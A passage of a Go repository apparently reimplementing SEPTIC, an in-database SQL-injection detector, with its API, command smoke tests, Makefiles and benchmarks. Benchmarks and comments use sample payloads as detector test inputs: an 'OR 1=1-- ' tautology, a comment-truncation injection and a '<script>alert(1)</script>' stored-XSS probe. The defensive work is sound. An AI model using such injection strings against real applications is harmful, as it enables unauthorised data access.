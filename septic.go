// Package septic is a faithful Go reimplementation of SEPTIC —
// SElf-Protecting daTabases prevenTIng attaCks (Medeiros, Beatriz, Neves,
// Correia; demonstrated at DSN 2017) — together with the DBMS substrate
// it runs inside.
//
// SEPTIC detects and blocks injection attacks *inside* the database
// engine, at the point where the query has already been parsed, decoded
// and validated — after every transformation that creates the "semantic
// mismatch" between what applications believe they send and what the
// DBMS executes. It learns a query model (the query's stack of items
// with data values blanked) for every query an application issues, and
// at runtime compares each incoming query's structure against its model:
// structural or syntactical deviations are injections. Values written by
// INSERT/UPDATE additionally pass through stored-injection plugins
// (stored XSS, file inclusion, command injection).
//
// This package is the supported public API; everything under internal/
// is implementation. Quick start:
//
//	db, guard := septic.New(septic.DefaultConfig())
//	db.Exec(`CREATE TABLE t (id INT, name TEXT)`)
//
//	guard.SetMode(septic.ModeTraining)
//	db.Exec(`SELECT name FROM t WHERE id = 1`) // learn the shape
//
//	guard.SetMode(septic.ModePrevention)
//	_, err := db.Exec(`SELECT name FROM t WHERE id = 1 OR 1=1-- `)
//	// err wraps septic.ErrQueryBlocked
package septic

import (
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
)

// Core types, re-exported for the public API.
type (
	// DB is the in-memory MySQL-like database engine hosting SEPTIC.
	DB = engine.DB
	// Result is the outcome of one statement.
	Result = engine.Result
	// Value is one cell value.
	Value = engine.Value
	// Guard is a SEPTIC instance: the four modules of the paper wired
	// together behind the engine's pre-execution hook.
	Guard = core.Septic
	// Config selects the operation mode and active detections.
	Config = core.Config
	// Mode is the operation mode (training / detection / prevention).
	Mode = core.Mode
	// Event is one entry of SEPTIC's event register.
	Event = core.Event
	// Stats aggregates SEPTIC's work counters.
	Stats = core.Stats
	// Plugin detects one class of stored-injection attack.
	Plugin = core.Plugin
)

// Operation modes (paper Table I).
const (
	ModeTraining   = core.ModeTraining
	ModeDetection  = core.ModeDetection
	ModePrevention = core.ModePrevention
)

// ErrQueryBlocked is wrapped by errors returned for queries SEPTIC
// dropped in prevention mode; test with errors.Is.
var ErrQueryBlocked = engine.ErrQueryBlocked

// DefaultConfig is prevention mode with both detections enabled and
// incremental learning on — the configuration the demo runs in phase D.
func DefaultConfig() Config { return core.DefaultConfig() }

// New creates a SEPTIC-protected database: a fresh engine with a fresh
// Guard installed at its pre-execution hook.
func New(cfg Config, opts ...core.SepticOption) (*DB, *Guard) {
	guard := core.New(cfg, opts...)
	db := engine.New(engine.WithQueryHook(guard))
	return db, guard
}

// NewWithClock is New with an injected time source (deterministic tests
// and benchmarks).
func NewWithClock(cfg Config, clock func() time.Time, opts ...core.SepticOption) (*DB, *Guard) {
	guard := core.New(cfg, opts...)
	db := engine.New(engine.WithQueryHook(guard), engine.WithClock(clock))
	return db, guard
}

// NewUnprotected creates a stock database engine without SEPTIC — the
// paper's baseline ("original MySQL without SEPTIC installed").
func NewUnprotected() *DB {
	return engine.New()
}

// Attach installs a Guard on an existing database (the paper's pitch:
// protection is provided off-the-shelf by the DBMS, no application or
// client changes).
func Attach(db *DB, guard *Guard) {
	db.SetHook(guard)
}

// Int builds an integer value for ExecArgs.
func Int(i int64) Value { return engine.Int(i) }

// Float builds a floating-point value for ExecArgs.
func Float(f float64) Value { return engine.Float(f) }

// Str builds a string value for ExecArgs.
func Str(s string) Value { return engine.Str(s) }

// Bool builds a boolean value for ExecArgs.
func Bool(b bool) Value { return engine.Bool(b) }

// Null builds the SQL NULL value for ExecArgs.
func Null() Value { return engine.Null() }
