package septic_test

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/attacks"
)

// Smoke tests for the command-line tools: build and run each binary the
// way a user would, asserting on the output's load-bearing lines. These
// protect the cmd/ wiring from rot; the logic behind each command is
// unit-tested in its package.

func runCommand(t *testing.T, args ...string) string {
	t.Helper()
	cmd := exec.Command("go", args...)
	cmd.Dir = "."
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("go %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return string(out)
}

func TestSepticDemoCommand(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping command smoke test in -short mode")
	}
	n := len(attacks.Corpus())
	out := runCommand(t, "run", "./cmd/septic-demo")
	for _, want := range []string{
		"phase A", "phase B", "phase C", "phase D", "phase E",
		fmt.Sprintf("%d/%d attacks blocked", n, n), "0 false positives",
		"0 added on retrain",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("demo output missing %q", want)
		}
	}
}

func TestSepticBenchAccuracyCommand(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping command smoke test in -short mode")
	}
	n := len(attacks.Corpus())
	out := runCommand(t, "run", "./cmd/septic-bench", "accuracy")
	for _, want := range []string{fmt.Sprintf("septic %d/%d", n, n), "modsec", "proxy"} {
		if !strings.Contains(out, want) {
			t.Errorf("accuracy output missing %q:\n%s", want, out)
		}
	}
}

func TestSepticBenchFig5CommandTiny(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping command smoke test in -short mode")
	}
	out := runCommand(t, "run", "./cmd/septic-bench", "fig5",
		"-loops", "2", "-rounds", "1")
	for _, want := range []string{"Fig. 5", "Address Book", "refbase", "ZeroCMS", "NN", "YY"} {
		if !strings.Contains(out, want) {
			t.Errorf("fig5 output missing %q:\n%s", want, out)
		}
	}
}

func TestSepticBenchWireCommandTiny(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping command smoke test in -short mode")
	}
	out := runCommand(t, "run", "./cmd/septic-bench", "wire",
		"-loops", "2", "-depths", "1,4")
	for _, want := range []string{"Address Book", "v1", "v2", "speedup"} {
		if !strings.Contains(out, want) {
			t.Errorf("wire output missing %q:\n%s", want, out)
		}
	}
}

func TestExampleCommands(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping command smoke test in -short mode")
	}
	cases := []struct {
		path string
		want []string
	}{
		{"./examples/quickstart", []string{"trained:", "benign login: 1 row(s)", "BLOCKED"}},
		{"./examples/secondorder", []string{"COND_ITEM AND", "FROM_TABLE tickets", "second-order (Fig. 3): BLOCKED", "syntax mimicry (Fig. 4): BLOCKED"}},
		{"./examples/waspmon", []string{"FALSE NEGATIVE", "attack BLOCKED", "benign request still fine"}},
		{"./examples/clientdiversity", []string{"BLOCKED by the server-side SEPTIC", "raw TCP attacker", "\"blocked\":true"}},
		{"./examples/adminreview", []string{"[pending]", "rejected:", "approved:", "BLOCKED"}},
		{"./examples/batchjob", []string{"imported INV-1001", "BLOCKED by SEPTIC", "1 attacks blocked"}},
	}
	for _, tc := range cases {
		t.Run(tc.path, func(t *testing.T) {
			out := runCommand(t, "run", tc.path)
			for _, want := range tc.want {
				if !strings.Contains(out, want) {
					t.Errorf("%s output missing %q", tc.path, want)
				}
			}
		})
	}
}
