# Convenience targets; everything is plain `go` underneath.

GO ?= go

.PHONY: all build vet test race chaos cover cover-gate vuln bench bench-hook bench-engine bench-wire bench-overload bench-record demo fig5 accuracy sweep parallel fuzz obs-demo clean

all: build vet test race

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race -timeout=5m ./...

# Fault-injection suites: replay workloads through torn frames, resets,
# slow clients and panicking detectors (internal/wire/chaos_test.go),
# crash/restart the durability machinery at random kill points asserting
# no acknowledged update is ever lost (internal/core/crash_chaos_test.go),
# and kill/resume a streaming replica mid-apply and mid-snapshot
# asserting zero divergence from the primary
# (internal/repl/chaos_test.go). The overload scenarios flood per-domain
# quotas and run a latency storm against the admission controller
# (internal/wire/overload_test.go, internal/core/overload_test.go).
chaos:
	$(GO) test -race -run 'TestChaos' -timeout=5m -v ./internal/wire/ ./internal/core/ ./internal/repl/ ./internal/overload/

cover:
	$(GO) test -cover ./...

# Fail if statement coverage of the detection-critical packages drops
# below the floors recorded in scripts/coverage-baseline.txt.
cover-gate:
	scripts/covergate.sh

# Known-vulnerability scan over the module's dependency graph. Gated on
# the scanner being installed (get it with
# `go install golang.org/x/vuln/cmd/govulncheck@latest`) so offline
# builds don't fail; CI installs it and runs this for real.
vuln:
	@if command -v govulncheck >/dev/null 2>&1; then \
		govulncheck ./...; \
	else \
		echo "vuln: govulncheck not installed, skipping (go install golang.org/x/vuln/cmd/govulncheck@latest)"; \
	fi

# Run every fuzz target for FUZZTIME each. The default is a smoke
# budget; for a real hunt: make fuzz FUZZTIME=10m. Go runs the checked-in
# seed corpora (testdata/fuzz/) plus the f.Add seeds on every plain
# `go test`, so regressions caught by past fuzzing stay covered even
# without this target.
FUZZTIME ?= 15s

fuzz:
	$(GO) test ./internal/sqlparser/ -fuzz=FuzzParse -fuzztime=$(FUZZTIME)
	$(GO) test ./internal/qstruct/ -fuzz=FuzzBuildStack -fuzztime=$(FUZZTIME)
	$(GO) test ./internal/qstruct/ -fuzz=FuzzSkeletonHash -fuzztime=$(FUZZTIME)
	$(GO) test ./internal/core/ -fuzz=FuzzBeforeExecute -fuzztime=$(FUZZTIME)
	$(GO) test ./internal/wire/ -fuzz=FuzzBinaryDecode -fuzztime=$(FUZZTIME)
	$(GO) test ./internal/wal/ -fuzz=FuzzWALRecover -fuzztime=$(FUZZTIME)
	$(GO) test ./internal/repl/ -fuzz=FuzzReplFrameDecode -fuzztime=$(FUZZTIME)

# COUNT > 1 gives benchstat-comparable samples, e.g.:
#   make bench-hook COUNT=10 > new.txt && benchstat old.txt new.txt
COUNT ?= 1

bench:
	$(GO) test -bench=. -benchmem -count=$(COUNT) ./...

# The verdict-cache hot path: cached hit vs full miss vs churn.
bench-hook:
	$(GO) test -run='^$$' -bench='BenchmarkHook|BenchmarkDetectionPlacement' -benchmem -count=$(COUNT) .

# The engine execution path (parse cache + lock plan + executor).
bench-engine:
	$(GO) test -run='^$$' -bench='BenchmarkEngineExec|BenchmarkParse|BenchmarkQSBuild' -benchmem -count=$(COUNT) .

# The wire protocol: synchronous v1 JSON baseline vs pipelined v2 binary
# frames at depths 1/4/16.
bench-wire:
	$(GO) test -run='^$$' -bench='BenchmarkWireSync$$|BenchmarkWirePipelined' -benchmem -count=$(COUNT) .

# Overload sweep: drive the admission-controlled wire server at 1×/2×/4×
# of its execution capacity and print shed rate plus admitted p50/p99 per
# point (the brownout claim: admitted p99 at 4× stays within 2× of the
# 1× baseline). bench-record runs this with -json to refresh
# BENCH_overload.json.
bench-overload:
	$(GO) run ./cmd/septic-bench overload

# Run the wire benchmarks and record the numbers into BENCH_wire.json
# (ops/sec, ns/op, allocs/op per series plus the depth-16 speedup), the
# durability ablation into BENCH_durability.json, and the overload sweep
# into BENCH_overload.json. The CI bench job runs this non-blocking for
# visibility; commit the files to refresh the recorded numbers.
bench-record:
	bash scripts/bench-record.sh

# Reproduce the paper's results.
demo:
	$(GO) run ./cmd/septic-demo -v

fig5:
	$(GO) run ./cmd/septic-bench fig5 -rounds 9

accuracy:
	$(GO) run ./cmd/septic-bench accuracy

sweep:
	$(GO) run ./cmd/septic-bench sweep -loops 4

parallel:
	$(GO) run ./cmd/septic-bench parallel

# Live observability tour: septicd with -obs-addr, the Address Book
# workload plus one attack per detector replayed over the wire, then
# /metrics, /events and /qm curled and shown.
obs-demo:
	bash scripts/obs-demo.sh

clean:
	$(GO) clean ./...
