# Convenience targets; everything is plain `go` underneath.

GO ?= go

.PHONY: all build vet test race cover bench demo fig5 accuracy sweep clean

all: build vet test race

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

cover:
	$(GO) test -cover ./...

bench:
	$(GO) test -bench=. -benchmem ./...

# Reproduce the paper's results.
demo:
	$(GO) run ./cmd/septic-demo -v

fig5:
	$(GO) run ./cmd/septic-bench fig5 -rounds 9

accuracy:
	$(GO) run ./cmd/septic-bench accuracy

sweep:
	$(GO) run ./cmd/septic-bench sweep -loops 4

clean:
	$(GO) clean ./...
