# Convenience targets; everything is plain `go` underneath.

GO ?= go

.PHONY: all build vet test race chaos cover bench bench-hook bench-engine demo fig5 accuracy sweep parallel clean

all: build vet test race

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race -timeout=5m ./...

# Fault-injection suite: replay workloads through torn frames, resets,
# slow clients and panicking detectors (internal/wire/chaos_test.go).
chaos:
	$(GO) test -race -run 'TestChaos' -timeout=5m -v ./internal/wire/

cover:
	$(GO) test -cover ./...

# COUNT > 1 gives benchstat-comparable samples, e.g.:
#   make bench-hook COUNT=10 > new.txt && benchstat old.txt new.txt
COUNT ?= 1

bench:
	$(GO) test -bench=. -benchmem -count=$(COUNT) ./...

# The verdict-cache hot path: cached hit vs full miss vs churn.
bench-hook:
	$(GO) test -run='^$$' -bench='BenchmarkHook|BenchmarkDetectionPlacement' -benchmem -count=$(COUNT) .

# The engine execution path (parse cache + lock plan + executor).
bench-engine:
	$(GO) test -run='^$$' -bench='BenchmarkEngineExec|BenchmarkParse|BenchmarkQSBuild' -benchmem -count=$(COUNT) .

# Reproduce the paper's results.
demo:
	$(GO) run ./cmd/septic-demo -v

fig5:
	$(GO) run ./cmd/septic-bench fig5 -rounds 9

accuracy:
	$(GO) run ./cmd/septic-bench accuracy

sweep:
	$(GO) run ./cmd/septic-bench sweep -loops 4

parallel:
	$(GO) run ./cmd/septic-bench parallel

clean:
	$(GO) clean ./...
