// Benchmarks regenerating the paper's quantitative results and the
// ablations listed in DESIGN.md §3.
//
//   - BenchmarkFig5_*: the §II-F performance study — per-request latency
//     of each application workload under the baseline engine and the
//     four SEPTIC configurations (NN/YN/NY/YY). The Fig. 5 metric is the
//     relative overhead between these series; `go run ./cmd/septic-bench
//     fig5` prints it directly as percentages.
//   - BenchmarkTableI_*: cost of one hook invocation per operation mode.
//   - Benchmark ablations: QS construction scaling, two-step comparison
//     vs always-full comparison, ID generation variants, stored-injection
//     pre-filter vs always-validate, and in-DBMS vs proxy vs WAF
//     detection cost on the same attack corpus.
package septic_test

import (
	"fmt"
	"sync/atomic"
	"testing"

	"github.com/septic-db/septic/internal/attacks"
	"github.com/septic-db/septic/internal/benchlab"
	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/dbfw"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
	"github.com/septic-db/septic/internal/waf"
	"github.com/septic-db/septic/internal/wal"
	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/wire"
)

// --- Fig. 5: workload latency under each SEPTIC configuration ---------

// fig5Deployment builds one application deployment, trained and switched
// to the requested configuration, ready for workload replay.
func fig5Deployment(b *testing.B, spec benchlab.AppSpec, cfg benchlab.SepticConfig) (*webapp.App, []webapp.Request) {
	b.Helper()
	var (
		db    *engine.DB
		guard *core.Septic
	)
	if cfg == benchlab.ConfigBaseline {
		db = engine.New()
	} else {
		guard = core.New(core.Config{Mode: core.ModeTraining})
		db = engine.New(engine.WithQueryHook(guard))
	}
	for _, q := range spec.Schema {
		if _, err := db.Exec(q); err != nil {
			b.Fatalf("schema: %v", err)
		}
	}
	app := spec.Build(db)
	for _, req := range spec.Training {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			b.Fatalf("training %s: %v", req, resp.Err)
		}
	}
	if guard != nil {
		c := core.Config{Mode: core.ModePrevention, IncrementalLearning: true}
		switch cfg {
		case benchlab.ConfigYN:
			c.DetectSQLI = true
		case benchlab.ConfigNY:
			c.DetectStored = true
		case benchlab.ConfigYY:
			c.DetectSQLI, c.DetectStored = true, true
		}
		guard.SetConfig(c)
	}
	return app, spec.Workload
}

func benchmarkFig5(b *testing.B, spec benchlab.AppSpec, cfg benchlab.SepticConfig) {
	app, workload := fig5Deployment(b, spec, cfg)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		req := workload[i%len(workload)]
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			b.Fatalf("%s: %v", req, resp.Err)
		}
	}
}

func BenchmarkFig5(b *testing.B) {
	configs := append([]benchlab.SepticConfig{benchlab.ConfigBaseline}, benchlab.Configs()...)
	for _, spec := range benchlab.PaperSpecs() {
		for _, cfg := range configs {
			spec, cfg := spec, cfg
			b.Run(fmt.Sprintf("%s/%s", sanitizeName(spec.Name), cfg), func(b *testing.B) {
				benchmarkFig5(b, spec, cfg)
			})
		}
	}
}

func sanitizeName(s string) string {
	out := make([]rune, 0, len(s))
	for _, r := range s {
		if r == ' ' {
			r = '_'
		}
		out = append(out, r)
	}
	return string(out)
}

// --- Table I: per-mode hook cost ---------------------------------------

func BenchmarkTableI_Modes(b *testing.B) {
	const benign = "SELECT * FROM tickets WHERE reservID = 'ZZ91AB' AND creditCard = 42"
	for _, mode := range []core.Mode{core.ModeTraining, core.ModeDetection, core.ModePrevention} {
		mode := mode
		b.Run(mode.String(), func(b *testing.B) {
			guard := core.New(core.Config{Mode: core.ModeTraining})
			db := engine.New(engine.WithQueryHook(guard))
			if _, err := db.Exec("CREATE TABLE tickets (id INT, reservID TEXT, creditCard INT)"); err != nil {
				b.Fatal(err)
			}
			if _, err := db.Exec(benign); err != nil {
				b.Fatal(err)
			}
			guard.SetConfig(core.Config{
				Mode: mode, DetectSQLI: true, DetectStored: true, IncrementalLearning: true,
			})
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := db.Exec(benign); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// --- Ablation: QS construction cost vs query size ----------------------

func BenchmarkQSBuild(b *testing.B) {
	queries := map[string]string{
		"small":  "SELECT id FROM t WHERE a = 1",
		"medium": "SELECT id, name, email FROM users WHERE city = 'lisbon' AND age > 18 ORDER BY name LIMIT 10",
		"large": "SELECT u.id, u.name, COUNT(*) AS n FROM users u JOIN orders o ON u.id = o.uid " +
			"WHERE u.city IN ('a','b','c') AND o.total BETWEEN 10 AND 500 AND o.state <> 'void' " +
			"GROUP BY u.id, u.name HAVING COUNT(*) > 2 ORDER BY n DESC, u.name LIMIT 20 OFFSET 5",
	}
	for name, q := range queries {
		name, q := name, q
		b.Run(name, func(b *testing.B) {
			stmt, err := sqlparser.Parse(q)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if qs := qstruct.BuildStack(stmt); len(qs) == 0 {
					b.Fatal("empty stack")
				}
			}
		})
	}
}

// --- Ablation: two-step comparison vs always-full walk -----------------

func BenchmarkCompareTwoStep(b *testing.B) {
	trained, err := sqlparser.Parse("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
	if err != nil {
		b.Fatal(err)
	}
	qm := qstruct.ModelOf(qstruct.BuildStack(trained))
	attacked, err := sqlparser.Parse("SELECT * FROM tickets WHERE reservID = 'ID34FG'-- ' AND creditCard = 0")
	if err != nil {
		b.Fatal(err)
	}
	attackQS := qstruct.BuildStack(attacked)
	benignQS := qstruct.BuildStack(trained)

	b.Run("two-step/attack", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if v := qstruct.Compare(attackQS, qm); v.Match {
				b.Fatal("attack matched")
			}
		}
	})
	b.Run("full-walk/attack", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if v := qstruct.CompareFull(attackQS, qm); v.Match {
				b.Fatal("attack matched")
			}
		}
	})
	b.Run("two-step/benign", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if v := qstruct.Compare(benignQS, qm); !v.Match {
				b.Fatal("benign flagged")
			}
		}
	})
	b.Run("full-walk/benign", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if v := qstruct.CompareFull(benignQS, qm); !v.Match {
				b.Fatal("benign flagged")
			}
		}
	})
}

// --- Ablation: ID generation with and without external identifiers -----

func BenchmarkIDGeneration(b *testing.B) {
	tagged, err := sqlparser.Parse("/* waspmon:devices */ SELECT id, name FROM devices WHERE name = 'x'")
	if err != nil {
		b.Fatal(err)
	}
	comments := tagged.StatementComments()
	b.Run("internal-only", func(b *testing.B) {
		g := &core.IDGenerator{UseExternal: false}
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if id := g.ID(tagged, comments); id == "" {
				b.Fatal("empty id")
			}
		}
	})
	b.Run("external+internal", func(b *testing.B) {
		g := core.NewIDGenerator()
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if id := g.ID(tagged, comments); id == "" {
				b.Fatal("empty id")
			}
		}
	})
}

// --- Ablation: stored-injection pre-filter vs always-validate ----------

func BenchmarkStoredInjectionFilter(b *testing.B) {
	values := []string{
		"a perfectly benign note about maintenance",
		"another value, plain prose with no metacharacters at all",
		"<script>alert(1)</script>",
		"check wiring then re-test tomorrow morning",
	}
	plugins := core.DefaultPlugins()
	b.Run("with-prefilter", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			v := values[i%len(values)]
			for _, p := range plugins {
				if p.Filter(v) {
					_, _ = p.Validate(v)
				}
			}
		}
	})
	b.Run("always-validate", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			v := values[i%len(values)]
			for _, p := range plugins {
				_, _ = p.Validate(v)
			}
		}
	})
}

// --- Ablation: detection cost by placement (in-DBMS vs proxy vs WAF) ---

func BenchmarkDetectionPlacement(b *testing.B) {
	attackReq := attacks.Corpus()[0].Request
	rawQuery := "SELECT id, name, location, maxWatts FROM devices WHERE name = 'benign'"

	b.Run("waf-check", func(b *testing.B) {
		w := waf.New()
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			_ = w.Check(attackReq)
		}
	})
	b.Run("proxy-normalize", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if p := dbfw.Normalize(rawQuery); p == "" {
				b.Fatal("empty pattern")
			}
		}
	})
	b.Run("septic-hook", func(b *testing.B) {
		// Verdict cache off: this ablation compares the per-query
		// DETECTION cost across placements, so the hook must run its
		// full pipeline every iteration (see BenchmarkHookCached for the
		// memoized path).
		guard := core.New(core.Config{Mode: core.ModeTraining},
			core.WithVerdictCacheCapacity(0))
		db := engine.New(engine.WithQueryHook(guard))
		if _, err := db.Exec("CREATE TABLE devices (id INT, name TEXT, location TEXT, maxWatts INT)"); err != nil {
			b.Fatal(err)
		}
		if _, err := db.Exec(rawQuery); err != nil {
			b.Fatal(err)
		}
		guard.SetConfig(core.Config{
			Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: true,
		})
		stmt, err := sqlparser.Parse(rawQuery)
		if err != nil {
			b.Fatal(err)
		}
		hctx := &engine.HookContext{Raw: rawQuery, Decoded: rawQuery, Stmt: stmt}
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if err := guard.BeforeExecute(hctx); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// --- Verdict cache: the repeated known-benign hot path ------------------

// cachedHookGuard builds a trained YY-prevention guard (with the given
// verdict-cache capacity and per-query event sampling off, the benchmark
// logger configuration) plus the hook context of its benign query.
func cachedHookGuard(b *testing.B, capacity int) (*core.Septic, *engine.HookContext) {
	b.Helper()
	guard := core.New(core.Config{Mode: core.ModeTraining},
		core.WithVerdictCacheCapacity(capacity),
		core.WithLogger(core.NewLogger(core.WithCheckedSampling(0))))
	query := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"
	stmt, err := sqlparser.Parse(query)
	if err != nil {
		b.Fatal(err)
	}
	hctx := &engine.HookContext{Raw: query, Decoded: query, Stmt: stmt}
	if err := guard.BeforeExecute(hctx); err != nil { // learn the model
		b.Fatal(err)
	}
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: true,
	})
	if err := guard.BeforeExecute(hctx); err != nil { // warm the cache
		b.Fatal(err)
	}
	return guard, hctx
}

// BenchmarkHookCached measures a byte-identical repeat of a known-benign
// query through the hook with the verdict cache on: the memoized path
// skips ID generation, the store lookup and both detections. The target
// is 0 allocs/op and a ≥5× ns/op win over BenchmarkHookMiss.
func BenchmarkHookCached(b *testing.B) {
	guard, hctx := cachedHookGuard(b, core.DefaultVerdictCacheCapacity)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := guard.BeforeExecute(hctx); err != nil {
			b.Fatal(err)
		}
	}
	if guard.CacheStats().Hits == 0 {
		b.Fatal("cache never hit")
	}
}

// BenchmarkHookCachedDomain is BenchmarkHookCached through a protection
// domain: the query carries an "/* app:id */" prefix, a matching domain
// is registered, and the cached verdict is served from that domain's
// partition. The delta against BenchmarkHookCached is the whole cost of
// domain routing — one prefix scan and one lookup in an atomically
// published map — and must stay within 10% at 0 allocs/op.
func BenchmarkHookCachedDomain(b *testing.B) {
	guard := core.New(core.Config{Mode: core.ModeTraining},
		core.WithVerdictCacheCapacity(core.DefaultVerdictCacheCapacity),
		core.WithLogger(core.NewLogger(core.WithCheckedSampling(0))))
	dom, err := guard.RegisterDomain("shop", core.Config{
		Mode: core.ModeTraining, IncrementalLearning: true,
	})
	if err != nil {
		b.Fatal(err)
	}
	query := "/* shop:tickets */ SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"
	stmt, err := sqlparser.Parse(query)
	if err != nil {
		b.Fatal(err)
	}
	hctx := &engine.HookContext{Raw: query, Decoded: query, Stmt: stmt, Comments: stmt.StatementComments()}
	if err := guard.BeforeExecute(hctx); err != nil { // learn in the domain
		b.Fatal(err)
	}
	dom.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: true,
	})
	if err := guard.BeforeExecute(hctx); err != nil { // warm the domain's cache
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := guard.BeforeExecute(hctx); err != nil {
			b.Fatal(err)
		}
	}
	if dom.CacheStats().Hits == 0 {
		b.Fatal("domain cache never hit")
	}
}

// BenchmarkHookMiss is the same repeat with caching disabled: every
// iteration runs the full pipeline. The cached/miss ratio is the verdict
// cache's payoff.
func BenchmarkHookMiss(b *testing.B) {
	guard, hctx := cachedHookGuard(b, 0)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := guard.BeforeExecute(hctx); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkHookCachedChurn stresses the cache's worst realistic case:
// parallel sessions repeating benign queries while the model store keeps
// learning (every store mutation orphans all cached verdicts). Measures
// how quickly the cache re-converges after invalidation storms.
func BenchmarkHookCachedChurn(b *testing.B) {
	guard, hctx := cachedHookGuard(b, core.DefaultVerdictCacheCapacity)
	churn := qstruct.ModelOf(qstruct.BuildStack(hctx.Stmt))
	var churnID int64
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			if i%512 == 511 {
				// Simulated incremental learning: a fresh identifier
				// bumps the store generation and invalidates everything.
				id := atomic.AddInt64(&churnID, 1)
				guard.Store().Put(fmt.Sprintf("churn-%d", id), churn, true)
			}
			i++
			if err := guard.BeforeExecute(hctx); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// --- Parallel sessions: hook hot path under GOMAXPROCS scaling ----------

// hookDeployment builds a two-table deployment trained on the parallel
// workload and switched to prevention mode with the given detections.
func hookDeployment(b *testing.B, cfg benchlab.SepticConfig) (*engine.DB, []string) {
	b.Helper()
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	schema := []string{
		"CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID TEXT, creditCard INT)",
		"CREATE TABLE devices (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT, maxWatts INT)",
	}
	for _, q := range schema {
		if _, err := db.Exec(q); err != nil {
			b.Fatal(err)
		}
	}
	workload := []string{
		"SELECT * FROM tickets WHERE reservID = 'ZZ91AB' AND creditCard = 42",
		"SELECT id, name FROM devices WHERE maxWatts > 100",
	}
	for _, q := range workload {
		if _, err := db.Exec(q); err != nil {
			b.Fatal(err)
		}
	}
	c := core.Config{Mode: core.ModePrevention, IncrementalLearning: true}
	switch cfg {
	case benchlab.ConfigYN:
		c.DetectSQLI = true
	case benchlab.ConfigNY:
		c.DetectStored = true
	case benchlab.ConfigYY:
		c.DetectSQLI, c.DetectStored = true, true
	}
	guard.SetConfig(c)
	return db, workload
}

// BenchmarkHookParallel measures known-benign query throughput from many
// concurrent sessions, per SEPTIC configuration. Run with -cpu=1,2,4 to
// see GOMAXPROCS scaling: the contention-free hot path should scale near
// linearly on a multi-core host, where the old single-mutex design was
// flat or worse.
func BenchmarkHookParallel(b *testing.B) {
	for _, cfg := range benchlab.Configs() {
		cfg := cfg
		b.Run(cfg.String(), func(b *testing.B) {
			db, workload := hookDeployment(b, cfg)
			b.ReportAllocs()
			b.ResetTimer()
			b.RunParallel(func(pb *testing.PB) {
				i := 0
				for pb.Next() {
					q := workload[i%len(workload)]
					i++
					if _, err := db.Exec(q); err != nil {
						b.Fatal(err)
					}
				}
			})
		})
	}
}

// BenchmarkEngineParallel isolates the engine's own concurrency (no
// hook): parallel point reads of one table, and reads of one table while
// a writer hammers another — the case the per-table locks unblock.
func BenchmarkEngineParallel(b *testing.B) {
	setup := func(b *testing.B) *engine.DB {
		b.Helper()
		db := engine.New()
		for _, q := range []string{
			"CREATE TABLE r (id INT PRIMARY KEY, v TEXT)",
			"CREATE TABLE w (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)",
		} {
			if _, err := db.Exec(q); err != nil {
				b.Fatal(err)
